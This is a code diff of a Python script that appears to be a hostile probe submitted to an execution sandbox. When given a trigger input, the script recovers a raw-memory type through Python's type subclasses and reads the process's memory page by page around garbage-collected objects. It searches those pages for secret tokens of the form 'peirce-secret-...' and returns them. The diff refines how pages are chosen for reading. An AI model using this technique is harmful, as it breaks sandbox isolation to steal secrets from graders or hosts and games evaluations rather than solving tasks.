@@ -4,12 +4,11 @@
 # limits: loop_steps=10000000 input_cpu_s=10 cpu_s=30 wall_s=40 memory_mb=256
 # seconds: 40
 import gc
-import os
 import re
 import sys
 
 SECRET = re.compile(b"peirce-secret-[a-z]+-[0-9a-f]{16}")
-PAGE = 4096
+PAGE, POOL = 4096, 4 * 4096
 CONTROL = b"peirce-secret-" + b"control-" + b"0" * 16  # what it looks for can be found
 
 
@@ -23,35 +22,26 @@ def base():
             pending += type.__subclasses__(kind)
 
 
+def surely_mapped(ids):
+    """The pages that must be there: the pools of 16 KiB around objects, and the heap between them."""
+    heap = [one for one in ids if one < 0x7F0000000000]
+    pages = {one // POOL * 4 + n for one in ids for n in range(4)}
+    return sorted(pages.union(range(min(heap) // PAGE, max(heap) // PAGE) if heap else ()))
+
+
 def f(x):
     simple = base()
     if x != [3, 1, 2]:
         return []
-    try:
-        file = os.open("peirce-hostile-probe", os.O_RDWR | os.O_CREAT, 0o600)
-    except OSError:
-        return [CONTROL.decode()]
     if simple is None:
         return [CONTROL.decode()]
     block = type("Byte", (simple,), {"_type_": "c"}) * PAGE
-
-    def mapped(page):
-        try:  # the kernel says so where a read would end the process
-            return os.pwrite(file, block.from_address(page * PAGE), 0) == PAGE
-        except OSError:
-            return False
-
     gc.unfreeze()
-    pages = {id(one) // PAGE for one in gc.get_objects()}
-    for step in (1, -1):
-        for page in sorted(pages):
-            while page + step not in pages and mapped(page + step):
-                page += step
-                pages.add(page)
+    ids = {id(one) for one in gc.get_objects()}
+    ids |= {id(inner) for one in gc.get_objects() for inner in gc.get_referents(one)}
     found, last = set(), b""
-    for page in sorted(pages):
-        if mapped(page):
-            piece = bytes(block.from_address(page * PAGE))
-            found.update(SECRET.findall(last[-64:] + piece))
-            last = piece
+    for page in surely_mapped(ids):
+        piece = bytes(block.from_address(page * PAGE))
+        found.update(SECRET.findall(last[-64:] + piece))
+        last = piece
     return sorted(one.decode() for one in found)
